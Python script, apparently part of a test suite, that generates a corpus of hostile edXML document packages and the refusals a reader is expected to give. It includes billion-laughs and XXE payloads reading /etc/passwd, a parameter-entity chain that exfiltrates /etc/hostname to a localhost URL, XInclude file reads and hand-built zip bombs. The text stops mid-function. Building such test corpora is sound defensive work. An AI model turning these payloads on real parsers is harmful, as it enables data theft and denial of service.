"""Generate the hostile-input corpus for the package reader: `python -m tests.edxml.hostile.make_corpus`.

Writes one file per case into tests/data/hostile/ and `expected.json`, which maps each file name
to what `edxml.reader.read_package` must do with it:

    {"outcome": "refused", "reason": "edxml.xml.dtd", ...}
        the whole package is refused with that EdxmlError reason;
    {"outcome": "read", "kind": "edoc", "warnings": [...], "attachments": [...], "header": {...}}
        the package is read; `warnings` is the exact set of warning codes, `attachments` one entry
        per attachment in document order (`error` is the AttachmentError reason or null,
        `sha256` the decoded bytes when readable, `zip_member_name` when unwrapped from a ZIP),
        `header` a few header values to compare.

Optional keys: `limits` (ReadLimits fields, `parser` for the xmlsafe Limits, used instead of the
defaults, so a case can stay small yet cross a limit), `attack` and `about` (what the file tries),
`reader_bug` (the expectation is the designed behaviour and the reader does not meet it yet: the
test runs the case as a strict xfail).

Every attack is generated along several axes (where in the package, how big, which namespace
dialect: the reference layout, unprefixed, or another prefix) rather than listed by hand. The
output is deterministic (no clock, no randomness, hand-built ZIP and deflate streams rather
than zlib's, whose output may differ between builds), so the committed corpus can be compared
byte for byte with a fresh run.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import json
import struct
import sys
import unicodedata
import zlib
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from edxml.text import encode_legacy

NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"
XI_NS = "http://www.w3.org/2001/XInclude"
DSIG_NS = "http://www.w3.org/2000/09/xmldsig#"
CORPUS_DIR = Path(__file__).resolve().parents[2] / "data" / "hostile"
EXPECTED_NAME = "expected.json"
MAX_FILE_BYTES = 200 * 1024
XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'
MARK = "\ue000"  # private-use placeholder where raw (non-UTF-8) bytes are spliced in

FROM_ID, FROM_NAME = "000.00.00.H55", "UBND tỉnh Thái Nguyên"
TO_ID, TO_NAME = "000.00.00.H41", "UBND tỉnh Nghệ An"
DOCUMENT_ID = "000.00.00.H55,2024/05/31,123/UBND-VP"
SUBJECT = "V/v triển khai liên thông văn bản điện tử"
LEGACY_TEXT = "Quyết định về việc phê duyệt kế hoạch"
PDF = (b"%PDF-1.4\n% edoc-gateway hostile corpus\n"
       + b"".join(b"%d 0 obj << /Length %d >> endobj\n" % (i, i * 7) for i in range(1, 40))
       + b"%%EOF\n")


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


# --- namespace dialects ---------------------------------------------------------------------------

@dataclass(frozen=True)
class Dialect:
    """How the edXML namespace is spelled: prefixes differ, the names and URI do not."""

    name: str
    p: str            # prefix of the envelope's elements
    root_open: str
    root_close: str
    env_open: str
    ap: str           # prefix of AttachmentEncoded, Attachment and their children
    cte_open: str
    cte_close: str


DIALECTS = {
    "ref": Dialect("ref", "edXML:", f'<edXML xmlns="{NS}">', "</edXML>",
                   f'<edXML:edXMLEnvelope xmlns:edXML="{NS}">', "",
                   f'<edXML:ContentTransferEncoded xmlns:edXML="{NS}">',
                   "</edXML:ContentTransferEncoded>"),
    "bare": Dialect("bare", "", f'<edXML xmlns="{NS}">', "</edXML>", "<edXMLEnvelope>", "",
                    "<ContentTransferEncoded>", "</ContentTransferEncoded>"),
    "alt": Dialect("alt", "q:", f'<q:edXML xmlns:q="{NS}" '
                   'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                   'xmlns:xsd="http://www.w3.org/2001/XMLSchema">', "</q:edXML>",
                   "<q:edXMLEnvelope>", "q:", "<q:ContentTransferEncoded>",
                   "</q:ContentTransferEncoded>"),
}
_ROTATION = ("ref", "bare", "alt")


def dialect(i: int) -> Dialect:
    """The i-th dialect in rotation, so every family of attacks meets every spelling."""
    return DIALECTS[_ROTATION[i % len(_ROTATION)]]


REF = DIALECTS["ref"]

# --- header trees ---------------------------------------------------------------------------------
# A tree is a list of [name, value] pairs; value is text (inserted verbatim, so it may carry
# references or markup) or another tree. A pair whose name is None is a raw snippet.


def doc_header() -> list[Any]:
    return [
        ["From", [["OrganId", FROM_ID], ["OrganName", FROM_NAME]]],
        ["To", [["OrganId", TO_ID], ["OrganName", TO_NAME]]],
        ["DocumentId", DOCUMENT_ID],
        ["Code", [["CodeNumber", "123"], ["CodeNotation", "UBND-VP"]]],
        ["PromulgationInfo", [["Place", "Thái Nguyên"], ["PromulgationDate", "2024/05/31"]]],
        ["DocumentType", [["Type", "1"], ["TypeDetail", "0"], ["TypeName", "Công văn"]]],
        ["Subject", SUBJECT],
        ["Content", "Triển khai kết nối hệ thống quản lý văn bản"],
        ["SignerInfo", [["Competence", "KT. CHỦ TỊCH"], ["Position", "Phó Chủ tịch"],
                        ["FullName", "Nguyễn Văn A"]]],
        ["DueDate", "2024/06/30"],
        ["OtherInfo", [["Priority", "0"], ["SphereOfPromulgation", "Liên thông văn bản quốc gia"],
                       ["PromulgationAmount", "2"], ["PageAmount", "1"],
                       ["Direction", "false"]]],
        ["SteeringType", "1"],
        ["ToPlaces", [["Place", "Như trên"], ["Place", "Lưu: VT"]]],
    ]


def trace_list() -> list[Any]:
    return [
        ["TraceHeader", [["OrganId", FROM_ID], ["Timestamp", "2024/05/31 08:30:00"]]],
        ["Bussiness", [["BussinessDocType", "0"], ["BussinessDocReason", "Văn bản điện tử mới"],
                       ["Paper", "0"]]],
    ]


def status_header(code: str = "03") -> list[Any]:
    return [
        ["From", [["OrganId", TO_ID], ["OrganName", TO_NAME]]],
        ["ResponseFor", [["OrganId", FROM_ID], ["Code", "123/UBND-VP"],
                         ["PromulgationDate", "2024/05/31"], ["DocumentId", DOCUMENT_ID]]],
        ["StaffInfo", [["Department", "Văn phòng"], ["Staff", "Trần Thị B"]]],
        ["StatusCode", code],
        ["Description", "Tiếp nhận văn bản"],
        ["Timestamp", "2024/06/01 08:30:00"],
    ]


def _locate(tree: list[Any], path: str) -> tuple[list[Any], int]:
    parts = path.split("/")
    current = tree
    for depth, part in enumerate(parts):
        name, _, index = part.partition("[")
        n = int(index[:-1]) if index else 1
        hits = [i for i, item in enumerate(current) if item[0] == name]
        i = hits[n - 1]
        if depth == len(parts) - 1:
            return current, i
        current = current[i][1]
    raise AssertionError(path)


def edit(tree: list[Any], *, set: dict[str, Any] | None = None, drop: Iterable[str] = (),
         append: Iterable[tuple[str, str | None, Any]] = ()) -> list[Any]:
    """A changed copy: `set` path → value, `drop` paths, `append` (parent path or "", name, value)."""
    tree = copy.deepcopy(tree)
    for path, value in (set or {}).items():
        parent, i = _locate(tree, path)
        parent[i][1] = value
    for path in drop:
        parent, i = _locate(tree, path)
        del parent[i]
    for parent_path, name, value in append:
        if parent_path:
            parent, i = _locate(tree, parent_path)
            parent[i][1].append([name, value])
        else:
            tree.append([name, value])
    return tree


def render(tree: list[Any], p: str, indent: str) -> str:
    out = []
    for name, value in tree:
        if name is None:
            out.append(f"{indent}{value}\n")
        elif isinstance(value, list):
            out.append(f"{indent}<{p}{name}>\n{render(value, p, indent + '  ')}{indent}</{p}{name}>\n")
        else:
            out.append(f"{indent}<{p}{name}>{value}</{p}{name}>\n")
    return "".join(out)


# --- attachments ------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Att:
    cid: str | None = "cid:1"         # ContentId as written in the Attachment (None: no element)
    name: str = "cong-van.pdf"
    ctype: str = "application/pdf"
    content: bytes = PDF
    b64: str | None = None            # raw ContentTransferEncoded text; default base64(content)
    cte: bool = True                  # write a ContentTransferEncoded element
    listed: bool = True               # listed in the manifest
    manifest_cid: str | None = None   # ContentId in the manifest; default the attachment's
    extra: str = ""                   # raw markup appended inside Attachment
    description: str | None = None

    def text(self) -> str:
        return b64(self.content) if self.b64 is None else self.b64


def _manifest(atts: Iterable[Att], p: str, extra: Iterable[str] = ()) -> str:
    refs = []
    for a in atts:
        if not a.listed:
            continue
        cid = a.manifest_cid or ("cid:" + (a.cid or "").removeprefix("cid:"))
        desc = f"<{p}Description>{a.description}</{p}Description>" if a.description else ""
        refs.append(f"        <{p}Reference><{p}ContentId>{cid}</{p}ContentId>"
                    f"<{p}ContentType>{a.ctype}</{p}ContentType>{desc}"
                    f"<{p}AttachmentName>{a.name}</{p}AttachmentName></{p}Reference>\n")
    for cid in extra:
        refs.append(f"        <{p}Reference><{p}ContentId>{cid}</{p}ContentId>"
                    f"<{p}ContentType>application/pdf</{p}ContentType>"
                    f"<{p}AttachmentName>khong-co.pdf</{p}AttachmentName></{p}Reference>\n")
    return (f"    <{p}edXMLBody>\n      <{p}edXMLManifest version=\"1.0\">\n{''.join(refs)}"
            f"      </{p}edXMLManifest>\n    </{p}edXMLBody>\n")


def _attachment(a: Att, d: Dialect) -> str:
    ap = d.ap
    parts = ["    <", ap, "Attachment>\n"]
    if a.cid is not None:
        parts += [f"      <{ap}ContentId>{a.cid}</{ap}ContentId>\n"]
    parts += [f"      <{ap}AttachmentName>{a.name}</{ap}AttachmentName>\n"]
    if a.description:
        parts += [f"      <{ap}Description>{a.description}</{ap}Description>\n"]
    parts += [f"      <{ap}ContentType>{a.ctype}</{ap}ContentType>\n"]
    if a.cte:
        parts += ["      ", d.cte_open, a.text(), d.cte_close, "\n"]
    parts += [a.extra, f"    </{ap}Attachment>\n"]
    return "".join(parts)


# --- whole packages ---------------------------------------------------------------------------------

_DEFAULT = object()


def document(d: Dialect = REF, *, header: list[Any] | None = None, trace: Any = _DEFAULT,
             atts: Iterable[Att] = (Att(),), manifest: bool = True,
             manifest_extra: Iterable[str] = (), decl: str = XML_DECL, prolog: str = "",
             root_open: str | None = None, root_close: str | None = None,
             envelope_extra: str = "", header_extra: str = "", message_extra: str = "",
             attachments_extra: str = "", root_extra: str = "", epilog: str = "") -> str:
    """A document package as text; every piece can be replaced or have raw markup added."""
    p = d.p
    atts = tuple(atts)
    trace = trace_list() if trace is _DEFAULT else trace
    out = [decl, prolog, root_open or d.root_open, "\n  ", d.env_open, "\n",
           f"    <{p}edXMLHeader>\n", f"      <{p}MessageHeader>\n",
           render(doc_header() if header is None else header, p, "        "), message_extra,
           f"      </{p}MessageHeader>\n"]
    if trace is not None:
        out += [f"      <{p}TraceHeaderList>\n", render(trace, p, "        "),
                f"      </{p}TraceHeaderList>\n"]
    out += [header_extra, f"    </{p}edXMLHeader>\n"]
    if manifest:
        out.append(_manifest(atts, p, manifest_extra))
    out += [envelope_extra, f"  </{p}edXMLEnvelope>\n", f"  <{d.ap}AttachmentEncoded>\n"]
    out += [_attachment(a, d) for a in atts]
    out += [attachments_extra, f"  </{d.ap}AttachmentEncoded>\n", root_extra,
            root_close or d.root_close, "\n", epilog]
    return "".join(out)


def status(d: Dialect = REF, *, header: list[Any] | None = None, decl: str = XML_DECL,
           prolog: str = "", message_extra: str = "") -> str:
    p = d.p
    return "".join([decl, prolog, d.root_open, "\n  ", d.env_open, "\n",
                    f"    <{p}edXMLHeader>\n", f"      <{p}MessageHeader>\n",
                    render(status_header() if header is None else header, p, "        "),
                    message_extra, f"      </{p}MessageHeader>\n", f"    </{p}edXMLHeader>\n",
                    f"  </{p}edXMLEnvelope>\n", d.root_close, "\n"])


def splice(text: str, raw: bytes) -> bytes:
    """UTF-8 bytes of `text` with each MARK replaced by `raw` (which need not be UTF-8)."""
    assert MARK in text
    return text.encode("utf-8").replace(MARK.encode("utf-8"), raw)


# --- deflate and ZIP, by hand (deterministic whatever zlib build is installed) -------------------

class _Bits:
    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def put(self, value: int, nbits: int) -> None:  # extra bits and header fields: LSB first
        self.acc |= value << self.n
        self.n += nbits
        while self.n >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.n -= 8

    def code(self, bits: str) -> None:  # Huffman codes: MSB first
        for ch in bits:
            self.put(int(ch), 1)

    def done(self) -> bytes:
        if self.n:
            self.out.append(self.acc & 0xFF)
        return bytes(self.out)


def deflate_zeros(size: int) -> bytes:
    """A raw deflate stream of `size` zero bytes at ~1000:1: one dynamic-Huffman block whose
    only symbols are literal 0, length 258 (1 bit) and distance 1 (1 bit), so each 258 bytes of
    output cost 2 bits. `size` - 1 must be a multiple of 258."""
    assert size >= 1 and (size - 1) % 258 == 0
    b = _Bits()
    b.put(1, 1)            # BFINAL
    b.put(2, 2)            # dynamic Huffman
    b.put(286 - 257, 5)    # HLIT: literal/length codes 0..285
    b.put(2 - 1, 5)        # HDIST: distance codes 0..1
    order = (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1)
    b.put(len(order) - 4, 4)
    lengths = {18: 1, 1: 2, 2: 2}   # code-length alphabet: 18 → "0", 1 → "10", 2 → "11"
    for sym in order:
        b.put(lengths.get(sym, 0), 3)
    codes = {18: "0", 1: "10", 2: "11"}

    def zeros(n: int) -> None:
        b.code(codes[18])
        b.put(n - 11, 7)
    # literal/length lengths: 0 → 2, 1..255 → 0, 256 → 2, 257..284 → 0, 285 → 1; distances 1, 1
    b.code(codes[2])
    zeros(138)
    zeros(117)
    b.code(codes[2])
    zeros(28)
    for _ in range(3):
        b.code(codes[1])
    # canonical codes: 285 → "0", 0 → "10", 256 → "11"; distance 0 → "0"
    b.code("10")
    for _ in range((size - 1) // 258):
        b.code("0")
        b.code("0")
    b.code("11")
    return b.done()


def _crc_zeros(size: int) -> int:
    crc, block = 0, bytes(1 << 20)
    while size:
        n = min(size, len(block))
        crc = zlib.crc32(block[:n], crc)
        size -= n
    return crc


@dataclass(frozen=True)
class Member:
    name: bytes
    data: bytes                       # as stored (already deflated when method is 8)
    crc: int
    size: int                         # declared uncompressed size
    method: int = 8
    flags: int = 0
    local_name: bytes | None = None   # a different name in the local header
    zip64_size: int | None = None     # declare this size through a ZIP64 extra field


def zip_bytes(members: Iterable[Member], *, cut: int | None = None) -> bytes:
    """A ZIP archive with fixed timestamps; `cut` keeps only that many bytes."""
    body, central = bytearray(), bytearray()
    count = 0
    for m in members:
        count += 1
        size, csize, extra = m.size, len(m.data), b""
        if m.zip64_size is not None:
            extra = struct.pack("<HHQQ", 1, 16, m.zip64_size, len(m.data))
            size = csize = 0xFFFFFFFF
        offset = len(body)
        local_name = m.name if m.local_name is None else m.local_name
        body += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 45 if extra else 20, m.flags, m.method,
                            0, 0x5821, m.crc, csize, size, len(local_name), len(extra))
        body += local_name + extra + m.data
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45 if extra else 20,
                               45 if extra else 20, m.flags, m.method, 0, 0x5821, m.crc, csize,
                               size, len(m.name), len(extra), 0, 0, 0, 0, offset)
        central += m.name + extra
    out = bytes(body + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count,
                                              len(central), len(body), 0))
    return out if cut is None else out[:cut]


def stored(name: bytes, data: bytes, **kw: Any) -> Member:
    return Member(name, data, zlib.crc32(data), len(data), method=0, **kw)


def zeros_member(name: bytes, size: int, *, declared: int | None = None, **kw: Any) -> Member:
    return Member(name, deflate_zeros(size), _crc_zeros(size),
                  size if declared is None else declared, **kw)


# --- cases ------------------------------------------------------------------------------------------

@dataclass
class Case:
    name: str
    data: bytes
    expect: dict[str, Any]


@dataclass
class Corpus:
    cases: dict[str, Case] = field(default_factory=dict)

    def add(self, name: str, data: str | bytes, expect: dict[str, Any], *, attack: str, about: str,
            limits: dict[str, Any] | None = None, reader_bug: str | None = None) -> None:
        file_name = f"{name}.edxml"
        assert file_name not in self.cases, file_name
        raw = data.encode("utf-8") if isinstance(data, str) else data
        assert len(raw) < MAX_FILE_BYTES, (file_name, len(raw))
        expect = dict(expect, attack=attack, about=about)
        if limits:
            expect["limits"] = limits
        if reader_bug:
            expect["reader_bug"] = reader_bug
        self.cases[file_name] = Case(file_name, raw, expect)


def refused(reason: str) -> dict[str, Any]:
    return {"outcome": "refused", "reason": reason}


def att_ok(content: bytes = PDF, **extra: Any) -> dict[str, Any]:
    return {"error": None, "sha256": sha256(content), **extra}


def att_err(reason: str) -> dict[str, Any]:
    return {"error": reason}


def read(kind: str = "edoc", *, warnings: Iterable[str] = (),
         attachments: list[dict[str, Any]] | None = None, **header: Any) -> dict[str, Any]:
    if attachments is None:
        attachments = [att_ok()] if kind == "edoc" else []
    return {"outcome": "read", "kind": kind, "warnings": sorted(set(warnings)),
            "attachments": attachments, "header": header}


def _with(d: Dialect, changes: dict[str, str]) -> str:
    """The standard document with some header values replaced (paths as in `edit`)."""
    return document(d, header=edit(doc_header(), set=changes))


# Where a text attack is placed; each returns the package with `value` there.
def _at_subject(d: Dialect, value: str) -> str:
    return document(d, header=edit(doc_header(), set={"Subject": value}))


def _at_from_name(d: Dialect, value: str) -> str:
    return document(d, header=edit(doc_header(), set={"From/OrganName": value}))


def _at_to_name(d: Dialect, value: str) -> str:
    return document(d, header=edit(doc_header(), set={"To/OrganName": value}))


def _at_attachment_name(d: Dialect, value: str) -> str:
    return document(d, atts=(Att(name=value),))


def _at_status_description(d: Dialect, value: str) -> str:
    return status(d, header=edit(status_header(), set={"Description": value}))


def _at_attribute(d: Dialect, value: str) -> str:
    return document(d, header=edit(doc_header(), append=[("", None,
                                                           f'<{d.p}Note lang="{value}"/>')]))


def _at_comment(d: Dialect, value: str) -> str:
    return document(d, message_extra=f"        <!-- {value} -->\n")


def _at_pi(d: Dialect, value: str) -> str:
    return document(d, message_extra=f"        <?note {value}?>\n")


def _at_base64(d: Dialect, value: str) -> str:
    text = b64(PDF)
    return document(d, atts=(Att(b64=text[:40] + value + text[40:]),))


TEXT_POSITIONS = {
    "subject": _at_subject,
    "from-name": _at_from_name,
    "to-name": _at_to_name,
    "attachment-name": _at_attachment_name,
    "status-description": _at_status_description,
}


def dtd_family(c: Corpus) -> None:
    attack = "dtd"
    uses = {
        "subject": lambda d, ref: _at_subject(d, ref),
        "organ-name": lambda d, ref: _at_from_name(d, ref),
        "unused": lambda d, ref: document(d),
    }
    i = 0
    for levels in (3, 10):
        ents = ['<!ENTITY lol0 "lol">'] + [
            f'<!ENTITY lol{n} "{("&lol%d;" % (n - 1)) * 10}">' for n in range(1, levels)]
        subset = "".join(ents)
        for use, make in uses.items():
            d = dialect(i)
            i += 1
            doc = make(d, f"&lol{levels - 1};")
            c.add(f"dtd-billion-laughs-{levels}-levels-{use}-{d.name}",
                  _with_doctype(doc, f"<!DOCTYPE edXML [{subset}]>\n"), refused("edxml.xml.dtd"),
                  attack=attack, about=f"billion laughs, {levels} levels of 10x, referenced in {use}")
    for size, refs in ((1024, 2000), (60_000, 2500)):
        d = dialect(i)
        i += 1
        doc = _at_subject(d, "&a;" * refs)
        c.add(f"dtd-quadratic-{size}x{refs}-{d.name}",
              _with_doctype(doc, f'<!DOCTYPE edXML [<!ENTITY a "{"A" * size}">]>\n'),
              refused("edxml.xml.dtd"), attack=attack,
              about=f"quadratic blowup: a {size}-character entity referenced {refs} times")
    for target_name, target in (("file", "file:///etc/passwd"),
                                ("http", "http://127.0.0.1:9/secret.txt"),
                                ("dev-zero", "file:///dev/zero")):
        for use in ("subject", "organ-name"):
            d = dialect(i)
            i += 1
            doc = uses[use](d, "&xxe;")
            c.add(f"dtd-external-entity-{target_name}-{use}-{d.name}",
                  _with_doctype(doc, f'<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "{target}">]>\n'),
                  refused("edxml.xml.dtd"), attack=attack,
                  about=f"external entity {target} expanded in {use}")
    for variant, subset in (
            ("external", '<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;'),
            ("internal", '<!ENTITY % p "<!ENTITY x \'boom\'>"> %p;'),
            ("exfiltrate", '<!ENTITY % data SYSTEM "file:///etc/hostname">'
                           '<!ENTITY % wrap "<!ENTITY send SYSTEM \'http://127.0.0.1:9/?%data;\'>">'
                           ' %wrap;')):
        d = dialect(i)
        i += 1
        c.add(f"dtd-parameter-entity-{variant}-{d.name}",
              _with_doctype(_at_subject(d, "&x;" if variant == "internal" else SUBJECT),
                            f"<!DOCTYPE edXML [{subset}]>\n"),
              refused("edxml.xml.dtd"), attack=attack, about=f"parameter entities ({variant})")
    for variant, doctype, prolog in (
            ("bare", "<!DOCTYPE edXML>\n", ""),
            ("system", '<!DOCTYPE edXML SYSTEM "http://127.0.0.1:9/edxml.dtd">\n', ""),
            ("public", '<!DOCTYPE edXML PUBLIC "-//X//DTD edXML//EN" "edxml.dtd">\n', ""),
            ("empty-subset", "<!DOCTYPE edXML []>\n", ""),
            ("after-comment-and-pi", "<!DOCTYPE edXML>\n", "<!-- c -->\n<?pi x?>\n"),
            ("wrong-name", "<!DOCTYPE html>\n", "")):
        d = dialect(i)
        i += 1
        doc = document(d)
        head, rest = doc[:len(XML_DECL)], doc[len(XML_DECL):]
        c.add(f"dtd-alone-{variant}-{d.name}", head + prolog + doctype + rest,
              refused("edxml.xml.dtd"), attack=attack,
              about=f"a document type declaration with nothing else ({variant})")
    c.add("dtd-after-utf8-bom", b"\xef\xbb\xbf" + _with_doctype(document(), "<!DOCTYPE edXML>\n")
          .encode("utf-8"), refused("edxml.xml.dtd"), attack=attack,
          about="DOCTYPE behind a UTF-8 byte order mark")


def _with_doctype(doc: str, doctype: str) -> str:
    assert doc.startswith(XML_DECL)
    return XML_DECL + doctype + doc[len(XML_DECL):]


def entity_family(c: Corpus) -> None:
    attack = "entity"
    positions = {
        "subject": lambda d: _at_subject(d, "V/v &xxe; triển khai"),
        "from-name": lambda d: _at_from_name(d, "&xxe;"),
        "attribute": lambda d: _at_attribute(d, "&xxe;"),
        "attachment-name": lambda d: _at_attachment_name(d, "&xxe;.pdf"),
        "base64": lambda d: _at_base64(d, "&xxe;"),
        "status-code": lambda d: status(d, header=edit(status_header(), set={"StatusCode": "&lol9;"})),
    }
    for i, (where, make) in enumerate(positions.items()):
        d = dialect(i)
        c.add(f"entity-undefined-{where}-{d.name}", make(d), refused("edxml.xml.entity"),
              attack=attack, about=f"an entity reference with no declaration, in {where}")
    for i, where in enumerate(("subject", "from-name")):
        d = dialect(i)
        value = ("Công văn &amp; tờ trình &lt;số 1&gt; &quot;khẩn&quot; &apos;mật&apos; "
                 "&#x41;&#66;")
        plain = "Công văn & tờ trình <số 1> \"khẩn\" 'mật' AB"
        expected = {"subject": plain} if where == "subject" else {"from_organ_name": plain}
        c.add(f"entity-predefined-{where}-{d.name}", TEXT_POSITIONS[where](d, value),
              read(**expected), attack="tolerance",
              about="the five predefined entities and character references are plain text")


def xinclude_family(c: Corpus) -> None:
    inc = f'<xi:include xmlns:xi="{XI_NS}" href="file:///etc/passwd" parse="text"/>'
    fallback = (f'<xi:include xmlns:xi="{XI_NS}" href="http://127.0.0.1:9/x.xml">'
                f'<xi:fallback>không</xi:fallback></xi:include>')
    cases = {
        "root-child": dict(root_extra=f"  {inc}\n"),
        "envelope-child": dict(envelope_extra=f"    {inc}\n"),
        "header-child": dict(header_extra=f"      {fallback}\n"),
        "message-header-child": dict(message_extra=f"        {inc}\n"),
        "attachment-child": dict(atts=(Att(extra=f"      {inc}\n"),)),
        "in-base64": dict(atts=(Att(b64=b64(PDF) + inc),)),
    }
    for i, (where, kw) in enumerate(cases.items()):
        d = dialect(i)
        expect = read(subject=SUBJECT) if where != "in-base64" else \
            read(subject=SUBJECT, attachments=[att_err("edxml.attachment.base64")])
        c.add(f"xinclude-{where}-{d.name}", document(d, **kw), expect,
              attack="xinclude",
              about=f"an XInclude element ({where}) must stay inert: no file or URL is read")
    d = dialect(len(cases))
    c.add(f"xinclude-mixed-into-subject-{d.name}", _at_subject(d, f"V/v kiểm tra{inc} hệ thống"),
          read(subject="V/v kiểm tra hệ thống"), attack="xinclude",
          about="XInclude inside Subject: the element is dropped, the text around it kept")
    c.add("xinclude-schema-location-and-xml-base",
          document(root_open=f'<edXML xmlns="{NS}" xml:base="file:///etc/" '
                             'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                             f'xsi:schemaLocation="{NS} http://127.0.0.1:9/edxml.xsd">'),
          read(subject=SUBJECT), attack="xinclude",
          about="xml:base and xsi:schemaLocation pointing elsewhere are never fetched")


def nesting_family(c: Corpus) -> None:
    def chain(n: int, name: str = "a") -> str:
        return f"<{name}>" * n + f"</{name}>" * n

    deep = 10_000
    for i, (where, kw) in enumerate({
            "message-header": dict(message_extra=chain(deep)),
            "base64": dict(atts=(Att(b64=b64(PDF) + chain(deep)),)),
            "root": dict(root_extra=chain(deep)),
    }.items()):
        d = dialect(i)
        c.add(f"deep-{deep}-in-{where}-{d.name}", document(d, **kw), refused("edxml.xml.too_deep"),
              attack="nesting", about=f"{deep} nested elements in {where}")
    c.add(f"deep-{deep}-prefixed", document(
        message_extra='<x:a xmlns:x="urn:x">' + "<x:a>" * (deep - 1) + "</x:a>" * deep),
        refused("edxml.xml.too_deep"), attack="nesting",
        about=f"{deep} nested elements with a prefix bound once")
    # Inside MessageHeader an element is at depth 5: root 1, envelope 2, header 3, message 4.
    limit = 64
    for i, (label, n, expect) in enumerate((
            ("at-limit", limit - 4, read(warnings=["edxml.structure.unknown_element"])),
            ("limit-plus-one", limit - 3, refused("edxml.xml.too_deep")))):
        d = dialect(i)
        c.add(f"deep-{label}-{d.name}", document(d, message_extra=chain(n)), expect,
              attack="nesting", about=f"nesting exactly {'at' if n == limit - 4 else 'one past'} "
              f"the default depth limit of {limit}")


def siblings(n: int, where: str = "message-header", d: Dialect = REF) -> bytes:
    """A package with `n` empty sibling elements (also used by the test for the 100k case)."""
    run = "<a/>" * n
    kw = {"message-header": dict(message_extra=run), "root": dict(root_extra=run),
          "base64": dict(atts=(Att(b64=b64(PDF) + run),))}[where]
    return document(d, **kw).encode("utf-8")


SIBLING_LIMIT = 20_000
"""Element limit the sibling cases run under (the default 2,000,000 would need megabytes)."""


def count_family(c: Corpus) -> None:
    lowered = {"parser": {"max_elements": SIBLING_LIMIT}}
    for i, where in enumerate(("message-header", "root", "base64")):
        d = dialect(i)
        c.add(f"siblings-25000-in-{where}-{d.name}", siblings(25_000, where, d),
              refused("edxml.xml.too_many_elements"), attack="element-count", limits=lowered,
              about=f"25,000 sibling elements in {where} under a {SIBLING_LIMIT}-element limit")
    c.add("siblings-15000-under-limit", siblings(15_000), read(
        warnings=["edxml.structure.unknown_element"]), attack="element-count", limits=lowered,
        about=f"15,000 unknown siblings stay under a {SIBLING_LIMIT}-element limit: read, warned")
    c.add("attachments-1001-empty", document(attachments_extra="<Attachment/>" * 1001),
          refused("edxml.structure.too_many"), attack="element-count",
          about="more Attachment elements than the default limit of 1000")
    three = tuple(Att(cid=f"cid:{n}", name=f"{n}.pdf") for n in (1, 2, 3))
    c.add("attachments-3-limit-2", document(atts=three), refused("edxml.structure.too_many"),
          attack="element-count", limits={"max_attachments": 2},
          about="three attachments under a limit of two")


def attribute_family(c: Corpus) -> None:
    def attrs(n: int) -> str:
        return "".join(f' a{k}="{k}"' for k in range(n))

    over = [
        ("subject", lambda d, s: document(d, header=edit(doc_header(), drop=["Subject"]),
                                          message_extra=f"<{d.p}Subject{s}>{SUBJECT}</{d.p}Subject>")),
        ("root", lambda d, s: document(d, root_open=d.root_open[:-1] + s + ">")),
        ("content-transfer-encoded", lambda d, s: document(
            d, atts=(Att(cte=False, extra=f"      {d.cte_open[:-1]}{s}>{b64(PDF)}{d.cte_close}\n"),))),
    ]
    for i, (where, make) in enumerate(over):
        d = dialect(i)
        for n, expect in ((257, refused("edxml.xml.too_many_attributes")),
                          (5000, refused("edxml.xml.too_many_attributes"))):
            c.add(f"attributes-{n}-on-{where}-{d.name}", make(d, attrs(n)), expect,
                  attack="attributes", about=f"{n} attributes on {where} (limit 256)")
    c.add("attributes-256-at-limit", over[0][1](REF, attrs(256)), read(subject=SUBJECT),
          attack="attributes", about="exactly 256 attributes: allowed")
    decls = "".join(f' xmlns:p{k}="urn:p{k}"' for k in range(600))
    c.add("attributes-600-namespace-declarations", document(
        root_open=f'<edXML xmlns="{NS}"{decls}>'), read(subject=SUBJECT), attack="attributes",
        about="namespace declarations are not attributes: 600 of them are allowed")
    c.add("attributes-duplicate", document(root_open=f'<edXML xmlns="{NS}" a="1" a="2">'),
          refused("edxml.xml.malformed"), attack="attributes", about="the same attribute twice")


def token_family(c: Corpus) -> None:
    lowered = {"parser": {"max_token_bytes": 16 * 1024}}
    big = 100_000
    head = document(message_extra=MARK).split(MARK)[0]  # the file ends inside the token
    for where, tail in (("comment", "<!-- " + "x" * big),
                        ("attribute", '<a b="' + "x" * big),
                        ("pi", "<?pi " + "x" * big)):
        c.add(f"token-unclosed-{where}-lowered-limit", head + tail,
              refused("edxml.xml.token_too_large"), attack="token-size", limits=lowered,
              about=f"an unclosed {where} of {big} bytes under a 16 KiB token limit")
    c.add("token-unclosed-cdata-lowered-limit", head + "<![CDATA[" + "x" * big,
          refused("edxml.xml.malformed"), attack="token-size", limits=lowered,
          about="CDATA content streams as text (it is not one token): an unclosed section is "
                "malformed at the end of the input, whatever the token limit")
    c.add("token-unclosed-comment", head + "<!-- " + "x" * big, refused("edxml.xml.malformed"),
          attack="token-size", about="an unclosed comment under the default limits: malformed "
                                     "at the end of the input")


def encoding_family(c: Corpus) -> None:
    attack = "encoding"
    base = document()
    body = base[len(XML_DECL):]
    for name, data in (
            ("utf16le-bom", b"\xff\xfe" + base.replace("UTF-8", "UTF-16").encode("utf-16-le")),
            ("utf16be-bom", b"\xfe\xff" + base.replace("UTF-8", "UTF-16").encode("utf-16-be")),
            ("utf16le-no-bom", body.encode("utf-16-le")),
            ("utf16be-no-bom", body.encode("utf-16-be")),
            ("utf32le-bom", b"\xff\xfe\x00\x00" + body.encode("utf-32-le")),
